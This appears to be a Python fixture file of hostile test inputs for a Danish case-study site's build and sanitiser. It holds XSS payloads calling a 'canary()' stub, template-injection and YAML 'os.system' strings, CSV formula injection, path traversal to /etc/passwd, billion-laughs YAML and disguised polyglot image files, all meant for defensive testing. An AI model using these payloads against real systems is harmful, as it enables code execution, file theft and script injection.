"""Hostile input, by threat: what runs of it calls `canary(…)`, what fetches asks `evil.invalid`.

MARKDOWN goes into bodies, WORDS into fields, TRANSCRIPTS beside an episode, REFUSED are whole files
that must not be built at all, ADDRESSES are what somebody can be sent as a link.
"""

from __future__ import annotations

import io
from collections.abc import Mapping

from content_project import CASE, POINT
from PIL import Image as Pillow

# --- Bodies ---------------------------------------------------------------------------------------

RAW_HTML = [
    "<script>canary('m1')</script>",
    "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>",
    "<script/x>canary('m2')</script >",
    "<<script>script>canary('m3')<</script>/script>",
    "<img src=x onerror=canary('m4')>",
    "<img src=x onerror=canary('m5')//",
    "<img/src='x'/onerror=canary('m6')>",
    "<img src=`x` onerror=canary('m7')>",
    "<IMG SRC=https://evil.invalid/x.png>",
    "<svg onload=canary('m8')>",
    "<svg><script>canary('m9')</script></svg>",
    "<svg><animate onbegin=canary('m10') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:canary('m11')\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=canary('m12')>#x\"/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=canary('m13')>",
    "<math href=\"javascript:canary('m14')\">CLICK</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=canary('m15')></annotation-xml>",
    "<iframe src=\"javascript:canary('m16')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.canary('m17')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>canary('m18')</script>\"></object>",
    "<embed src=https://evil.invalid/x.swf>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>Send</button></form>",
    "<details open ontoggle=canary('m19')>x</details>",
    "<video src=x onerror=canary('m20')></video>",
    "<audio src=https://evil.invalid/x.mp3 autoplay></audio>",
    "<body onload=canary('m21')>",
    "<input autofocus onfocus=canary('m22')>",
    "<style>@import 'https://evil.invalid/x.css'; *{background:url(https://evil.invalid/x)}</style>",
    '<p style="background:url(https://evil.invalid/x.png)">x</p>',
    "<template><script>canary('m23')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=canary('m24')>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=canary('m25')>\"></textarea>",
    "<xmp><img title=\"</xmp><img src=x onerror=canary('m26')>\"></xmp>",
    "<table><td background=https://evil.invalid/x.png>x",
    "<!--><img src=x onerror=canary('m27')>-->",
    "<!-- --!><img src=x onerror=canary('m28')> -->",
    "<![CDATA[<img src=x onerror=canary('m29')>]]>",
    "<?php echo '<img src=x onerror=canary(1)>' ?><img src=x onerror=canary('m30')>",
    "<a href=# onclick=canary('m31')>klik</a>",
    "<a href=\"&#106;avascript:canary('m32')\">klik</a>",
    "<p id=indhold name=currentScript>DOM clobbering</p><a id=canary href=x></a>",
    "<plaintext><script>canary('m33')</script>",
    "</main></body></html><script>canary('m34')</script>",
]
LINKS = [
    "[klik](javascript:canary('l1'))",
    "[klik](JaVaScRiPt:canary('l2'))",
    "[klik]( javascript:canary('l3') )",
    "[klik](<javascript:canary('l4')>)",
    "[klik](java\tscript:canary('l5'))",
    "[klik](&#106;&#97;vascript:canary('l6'))",
    "[klik](&#x6A;avascript&colon;canary('l7'))",
    "[klik](javascript&#58;canary('l8'))",
    "[klik](%6aavascript:canary('l9'))",
    "[klik](\\javascript:canary('l10'))",
    "[klik](javascript\\:canary('l11'))",
    "[klik](data:text/html,<script>canary('l12')</script>)",
    "[klik](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)",
    "[klik](vbscript:canary('l13'))",
    "[klik](file:///etc/passwd)",
    "[klik](blob:https://evil.invalid/1)",
    "[klik](view-source:https://evil.invalid/)",
    "[klik](//evil.invalid/x)",
    "[klik](\\\\evil.invalid\\x)",
    "[klik](https://evil.invalid/\"onmouseover=\"canary('l14'))",
    '[klik](https://example.org/ "x" onmouseover="canary(\'l15\')")',
    '[klik](https://example.org/ \'x" onmouseover="canary(16)" y="\')',
    "[klik][a]\n\n[a]: javascript:canary('l17')",
    "[klik][b]\n\n[b]: <javascript:canary('l18')> \"x\"",
    "[c]\n\n[c]:\n    javascript:canary('l19')",
    "<javascript:canary('l20')>",
    "<https://example.org/?x=\"><script>canary('l21')</script>>",
    "<data:text/html,canary>",
    "![x](https://evil.invalid/x.png)",
    "![x](x.png \"' onerror='canary(22)\")",
    "![x\" onerror=\"canary('l23')](x.png)",
    "![x][d]\n\n[d]: https://evil.invalid/x.png",
    "[![x](javascript:canary('l24'))](javascript:canary('l25'))",
    "[x](https://example.org/){onclick=canary('l26')}",
    '[x](https://example.org/){: onclick="canary(\'l27\')" style="color:red" }',
    "*x*{: .a onmouseover=canary('l28') }",
    "[klik](mailto:a@example.org?body=<script>canary('l29')</script>)",
    "[a](<https://example.org/ onclick=canary(30)>)",
    "[klik](java\u0000script:canary('l31'))",
    "[klik](\u0001javascript:canary('l32'))",
    "[klik](javascript\u200b:canary('l33'))",
    "[klik](ｊavascript:canary('l34'))",
]
SYNTAX = [
    "{{ 7*7 }} {{ config }} {{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}",
    "{% include '/etc/passwd' %}{% raw %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# en kommentar #}{{ ''.__class__ }}",
    '--8<-- "/etc/passwd"',
    '--8<-- "../../../etc/passwd"',
    "{% include-markdown '/etc/passwd' %}",
    "!include /etc/passwd",
    "[TOC]\n\n[[_TOC_]]\n\n::: mkdocs.config",
    "$(touch pwned) `touch pwned` ${HOME} #{7*7} <%= 7*7 %>",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=canary('s1')> | `<script>canary('s2')</script>` |",
    "| a |\n|---|\n| [x](javascript:canary('s3')) |",
    "    <script>canary('s4')</script>",
    "```html\n<script>canary('s5')</script>\n```",
    "~~~ {.html onclick=\"canary('s6')\"}\n<b>x</b>\n~~~",
    "`` `<script>canary('s7')</script>` ``",
    "\\<script>canary('s8')\\</script>",
    "&lt;script&gt;canary('s9')&lt;/script&gt;",
    "&amp;lt;script&amp;gt;canary('s10')&amp;lt;/script&amp;gt;",
    "\ufe64script\ufe65canary('s11')\ufe64/script\ufe65 ＜script＞canary('s12')＜/script＞",
    "*[HTML]: <script>canary('s13')</script>\n\nHTML",
    "tekst[^1]\n\n[^1]: <img src=x onerror=canary('s14')>",
    "term\n:   <svg onload=canary('s15')>",
    "\u00020\u0003klzzwxh:0000\u0003 \u0002klzzwxh:0000\u0003 wzxhzdk:0",
    "\x02amp\x03 \x02wzxhzdk:0\x03",
    "!!! note \"<script>canary('s16')</script>\"\n    tekst",
    "??? note onclick\n    tekst",
    "- [ ] <img src=x onerror=canary('s17')>",
    "> > > > > > " * 30 + "citat",
    "*_" * 300 + "x" + "_*" * 300,
    "[" * 400 + "x" + "](y)" * 50,
    "# " + "`" * 400,
    "\u202etxet tdnev\u202c \u2066skjult\u2069 \u200bnul",
    "zalgo " + "a" + "\u0301" * 200,
    "<" * 500 + ">" * 500,
]
MARKDOWN = [*RAW_HTML, *LINKS, *SYNTAX]

# --- Fields ---------------------------------------------------------------------------------------

WORDS = [
    "</script><script>canary('f1')</script>",
    "</title><script>canary('f2')</script>",
    "\"><img src=x onerror=canary('f3')>",
    "'><img src=x onerror=canary('f4')>",
    '" onmouseover="canary(\'f5\')" x="',
    "' autofocus onfocus='canary(6)",
    "\"}</script><script>canary('f7')</script>",
    "\\\"}]}</script><svg onload=canary('f8')>",
    "<!--<script>canary('f9')</script>",
    "--><script>canary('f10')</script>",
    "]]><script>canary('f11')</script>",
    "<![CDATA[<script>canary('f12')</script>]]>",
    "&lt;script&gt;canary('f13')&lt;/script&gt;",
    "&#60;img src=x onerror=canary('f14')&#62;",
    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{# #}{{ config.items() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "`canary('f15')`",
    "javascript:canary('f16')",
    "data:text/html,<script>canary('f17')</script>",
    '=HYPERLINK("https://evil.invalid/";"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1 fuldbredde",
    '|=1+1;=2+2""',
    "<svg onload=canary('f18')>",
    '<math><mi xlink:href="javascript:canary(19)">',
    "<img src=https://evil.invalid/p.png>",
    "<style>@import'//evil.invalid/x'</style>",
    "[klik](javascript:canary('f20'))",
    "![x](https://evil.invalid/q.png)",
    "constructor __proto__ toString hasOwnProperty",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini %2e%2e%2f",
    "\\u003cscript\\u003ecanary('f21')\\u003c/script\\u003e",
    "%3Cscript%3Ecanary('f22')%3C/script%3E",
    "＜img src=x onerror=canary('f23')＞",
    "Ꮪlov ѕkrift раypal – ligner latinsk",
    "مرحبا עברית blandet med dansk",
    "👩‍👩‍👧‍👦🏴‍☠️ e\u0301 ﬁ ß İ ſ",
    "'; DROP TABLE cases; -- 0x27",
]

# --- Transcripts ----------------------------------------------------------------------------------

CUES = [
    "<script>canary('t1')</script>",
    "<img src=x onerror=canary('t2')>",
    "&lt;img src=x onerror=canary('t3')&gt;",
    "<v <img src=x onerror=canary('t4')>>Hej",
    "<c.onload=canary('t5')>Hej</c>",
    "<b onclick=canary('t6')>Hej</b>",
    "<ruby>x<rt><svg onload=canary('t7')></rt></ruby>",
    "</script><script>canary('t8')</script>",
    "{{ 7*7 }}{% raw %}",
    "\" onmouseover=\"canary('t9')",
    "[klik](javascript:canary('t10'))",
    "<00:00:01.000><i/onload=canary('t11')>",
]

# --- Links that somebody can be sent --------------------------------------------------------------

_TRICKS = [
    "<img src=x onerror=canary('a1')>",
    "\"><script>canary('a2')</script>",
    "javascript:canary('a3')",
    "{{7*7}}",
    "__proto__",
    "../../../../evil",
    "%00%0d%0aSet-Cookie:x=1",
    "'-canary('a4')-'",
]
ADDRESSES = [
    *(("/samling/?cases={}", trick) for trick in _TRICKS),
    *(("/soeg/?q={}", trick) for trick in _TRICKS),
    *(("/cases/?q={}", trick) for trick in _TRICKS),
    *(("/cases/?p={}&maal={}&sorter={}&vis={}", trick) for trick in _TRICKS),
    *(("/cases/#{}", trick) for trick in _TRICKS[:3]),
    *(("/podcast/ondt-afsnit/#t={}", trick) for trick in _TRICKS[:4]),
    *(("/podcast/ondt-afsnit/afspiller/?t={}", trick) for trick in _TRICKS[:4]),
]

# --- Files that are refused -----------------------------------------------------------------------

_CASE = "cases/foens/index.md"
_POINT = "cases/foens/learning-points/2026-11-23-lav-afgift.md"


def _png(width: int = 4, height: int = 4) -> bytes:
    held = io.BytesIO()
    Pillow.new("RGB", (width, height)).save(held, "PNG")
    return held.getvalue()


_TITLE = "title: En lav tilslutningsafgift får mange med\n"
_SOURCE = "https://example.org/historie"


def _point(lines: str) -> str:
    """The valid learning point with other lines; its title goes when they bring one."""
    kept = "" if "title:" in lines else _TITLE
    return POINT.replace(_TITLE, f"{kept}{lines}\n")


def _case(lines: str) -> str:
    """The valid case with a line more."""
    return CASE.replace("---\n", f"---\n{lines}\n", 1)


_LAUGHS = "\n".join(
    ["a0: &a0 [lol,lol,lol,lol,lol,lol,lol,lol,lol]"]
    + [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9)]
)
_IMAGE = "images: [{{file: {}, alt: x, credit: x, licence: CC0-1.0, basis: no_people}}]"

REFUSED: Mapping[str, dict[str, str | bytes]] = {
    "a billion laughs": {_POINT: _point(_LAUGHS)},
    "an anchor that holds itself": {_POINT: _point("title: &a [*a]")},
    "a merge key": {_POINT: _point("base: &b {title: x}\n<<: *b")},
    "a Python object": {_POINT: _point("title: !!python/object/apply:os.system ['touch pwned']")},
    "a Python name": {_POINT: _point("title: !!python/name:os.system")},
    "a Python module": {_POINT: _point("title: !!python/module:antigravity")},
    "a tag of one's own": {_POINT: _point("title: !include /etc/passwd")},
    "an environment variable": {_POINT: _point("title: !ENV HOME")},
    "a binary": {_POINT: _point("title: !!binary R0lGODlhAQABAAAAACw=")},
    "two documents": {_POINT: _point("title: x\n--- \ntitle: y")},
    "a key that is a list": {_POINT: _point("? [a, b]\n: c")},
    "a key twice": {_POINT: _point("title: a\ntitle: b")},
    "deep YAML": {_POINT: _point("title: " + "[" * 3000 + "]" * 3000)},
    "wide YAML": {_POINT: _point("title: x\n" + "\n".join(f"k{n}: v" for n in range(20_000)))},
    "a huge number": {_POINT: _point("title: x\ndate: " + "9" * 5000)},
    "a directive": {_POINT: "%YAML 9.9\n---\ntitle: x\n---\n"},
    "__proto__": {_POINT: _point("__proto__: {admin: true}\nconstructor: x")},
    "a template for the page": {_POINT: _point("title: x\ntemplate: ../../../etc/passwd")},
    "hooks in front matter": {_POINT: _point("title: x\nhooks: [evil.py]\nplugins: [x]")},
    "a picture above the case": {_CASE: _case(_IMAGE.format("../../hooks/build.py"))},
    "a picture by a whole path": {_CASE: _case(_IMAGE.format("/etc/passwd"))},
    "a picture by backslashes": {_CASE: _case(_IMAGE.format("'..\\..\\x.png'"))},
    "a picture by an address": {_CASE: _case(_IMAGE.format("'https://evil.invalid/x.png'"))},
    "a picture by a data address": {_CASE: _case(_IMAGE.format("'data:image/png;base64,AA=='"))},
    "a picture by a file address": {_CASE: _case(_IMAGE.format("'file:///etc/passwd'"))},
    "a null in a path": {_CASE: _case(_IMAGE.format('"a\\0.png"'))},
    "an SVG": {"cases/foens/images/a.svg": "<svg onload=canary(1)>"},
    "an SVG in the case folder": {"cases/foens/a.svg": "<svg onload=canary(1)>"},
    "an SVG called PNG": {"cases/foens/images/a.png": "<svg xmlns='x' onload='canary(1)'/>"},
    "HTML called JPEG": {"cases/foens/images/a.jpg": "<script>canary(1)</script>"},
    "a GIF with a script": {"cases/foens/images/a.png": b"GIF89a/*\x01\0\x01\0*/=canary(1);"},
    "a PNG that claims the world": {
        "cases/foens/images/a.png": _png()[:16] + b"\0\xff\xff\xff\0\xff\xff\xff" + _png()[24:]
    },
    "eleven megabytes": {"cases/foens/images/a.png": _png() + b"\0" * (11 << 20)},
    "a page of HTML": {"cases/foens/evil.html": "<script>canary(1)</script>"},
    "a script": {"cases/foens/evil.js": "canary(1)"},
    "a hook": {"cases/foens/hooks.py": "import os"},
    "a symbol for a file name": {"cases/foens/images/<img src=x onerror=canary(1)>.png": _png()},
    "a name with quotes": {'cases/foens/images/"onerror=canary(1) x=".png': _png()},
    "a name that turns": {"cases/foens/images/a\u202egnp.exe.png": _png()},
    "a learning point with a bad name": {
        "cases/foens/learning-points/2026-11-23-<script>.md": _point("title: x")
    },
    "a case with dots": {"cases/..foens/index.md": CASE},
    "a case with a space": {"cases/a b/index.md": CASE},
    "a case with markup": {"cases/<b>x<b>/index.md": CASE},
    "a case like one that is": {"cases/FOENS/index.md": CASE},
    "a text of a megabyte": {_POINT: _point("title: x") + "a" * (1 << 20)},
    "a text of zeros": {_POINT: b"\0" * 5000},
    "UTF-16": {_POINT: _point("title: x").encode("utf-16")},
    "Windows-1252": {_POINT: _point("title: på").encode("cp1252")},
    "a zip": {_POINT: b"PK\x03\x04" + b"x" * 500},
    "controls": {_POINT: _point("title: a\x1b[2Jb\x07")},
    "text that turns": {_POINT: _point("title: a\u202eb")},
    "a source by script": {_CASE: CASE.replace(_SOURCE, "javascript:canary(1)")},
    "a source by data": {_CASE: CASE.replace(_SOURCE, "data:text/html,x")},
    "a source with a password": {_CASE: CASE.replace(_SOURCE, "https://a:b@c.dk/")},
    "a former slug that climbs": {_CASE: _case("former_slugs: ['../../index']")},
    "a former slug with markup": {_CASE: _case("former_slugs: ['<script>']")},
}
